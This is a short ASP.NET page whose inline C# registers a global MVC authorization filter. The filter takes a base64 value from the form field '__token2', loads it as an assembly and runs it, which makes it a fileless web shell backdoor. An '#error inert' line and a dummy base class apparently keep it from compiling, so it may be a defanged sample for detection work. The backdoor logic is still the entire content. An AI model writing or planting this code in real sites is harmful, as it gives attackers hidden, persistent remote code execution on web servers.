<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Web.Mvc" %>
<script runat="server">
#error inert
public class F : IAuthorizationFilter
{
    public void OnAuthorization(AuthorizationContext fc)
    {
        var d = fc.HttpContext.Request.Form["__token2"];
        if (string.IsNullOrEmpty(d)) return;
        var a = System.Reflection.Assembly.Load(Convert.FromBase64String(d));
        a.CreateInstance("R").Equals(fc.HttpContext);
        fc.HttpContext.Response.End();
    }
}
void Page_Load(object o, EventArgs e)
{
    GlobalFilterCollection g = GlobalFilters.Filters;
    g.Add(new F(), -1);
}
</script>
